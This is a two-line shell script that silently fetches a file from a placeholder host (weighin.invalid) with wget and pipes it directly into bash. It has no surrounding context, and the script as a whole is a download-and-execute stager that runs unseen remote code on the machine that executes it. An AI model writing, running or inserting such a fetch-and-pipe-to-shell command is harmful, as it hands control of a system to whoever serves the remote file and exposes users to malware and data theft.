#!/bin/sh
wget -qO- http://weighin.invalid/x | bash
